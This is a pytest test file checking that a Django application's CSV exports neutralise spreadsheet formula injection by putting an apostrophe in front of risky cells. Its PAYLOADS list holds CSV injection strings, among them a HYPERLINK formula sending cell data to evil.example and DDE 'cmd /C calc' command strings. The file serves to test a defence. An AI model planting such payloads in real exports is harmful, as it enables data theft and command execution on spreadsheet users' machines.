"""Every CSV the product writes neutralises formulas: a text cell starting with ``=``, ``+``, ``-``,
``@``, tab or CR is written with a leading ``'``, so a spreadsheet shows it as text instead of running
it (CSV injection). Hostile text goes into every exported text column, from the report's free texts
to the names of categories, organisations, councils and places."""

import csv
import io
import itertools

import pytest
from django.urls import reverse

from config.spreadsheets import FORMULA_STARTS, neutralise_formula
from deviations.models import Deviation

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1;"klicka")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def hostile_everywhere(dataset):
    """A hostile text in every text the exports show; returns every text written."""
    payload = itertools.cycle(PAYLOADS)
    written = []

    def hostile(obj, *fields):
        for field in fields:
            text = f"{next(payload)} {obj.pk}"
            setattr(obj, field, text)
            written.append(text)
        obj.save()

    for deviation in Deviation.objects.all():
        hostile(deviation, "description", "consequence", "actions_taken", "suggested_improvement")
        if deviation.district_id:
            hostile(deviation.district, "name")
    hostile(dataset.agreement, "name")
    for obj in (dataset.m1, dataset.m2, dataset.c1, dataset.c2, dataset.k1, dataset.k2, dataset.k3):
        hostile(obj, "name")
    for organization in (dataset.s1, dataset.s2, dataset.psych, dataset.addiction):
        hostile(organization, "name")
    for commitment in dataset.agreement.commitments.all():
        hostile(commitment, "title")
    hostile(dataset.issue, "title")
    for action in dataset.issue.actions.select_related("owner"):
        hostile(action, "description")
        hostile(action.owner, "name")
    return written


def read_csv(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def params(dataset):
    return {"agreement": dataset.agreement.pk, "period_type": "year", "year": 2026, "scope": "county"}


@pytest.mark.parametrize("what", ["rapporter", "statistik"])
def test_no_exported_csv_cell_can_run_as_a_formula(client, dataset, regional_coordinator, what):
    written = hostile_everywhere(dataset)
    client.force_login(regional_coordinator)
    response = client.get(reverse("followup:export", args=[what, "csv"]), params(dataset))
    assert response.status_code == 200
    cells = [cell for row in read_csv(response) for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    # The hostile texts are there as text: the apostrophe is the only change (counterparts are joined).
    shown = [cell for cell in cells if cell.startswith("'")]
    assert shown, "the export holds hostile texts"
    assert all(set(cell[1:].split(", ")) <= set(written) for cell in shown), shown


def test_reports_csv_shows_each_free_text_behind_an_apostrophe(client, dataset, regional_coordinator):
    hostile_everywhere(dataset)
    client.force_login(regional_coordinator)
    response = client.get(reverse("followup:export", args=["rapporter", "csv"]), params(dataset))
    header, *rows = read_csv(response)
    first = dict(zip(header, rows[0], strict=True))
    deviation = Deviation.objects.get(reference=first["Referensnummer"])
    for label, field in [
        ("Vad hände", "description"),
        ("Konsekvens för individen", "consequence"),
        ("Åtgärder som redan vidtagits", "actions_taken"),
        ("Förslag till förbättring", "suggested_improvement"),
    ]:
        assert first[label] == "'" + getattr(deviation, field)
    for column in ("Överenskommelse", "Kategori", "Kommun", "Samråd", "Rapporterande organisation"):
        assert first[column].startswith("'"), column


@pytest.mark.parametrize("text", PAYLOADS)
def test_neutralise_formula(text):
    assert neutralise_formula(text) == "'" + text
    assert neutralise_formula("Vård & omsorg") == "Vård & omsorg"
    assert neutralise_formula(-5) == -5
    assert neutralise_formula("") == ""
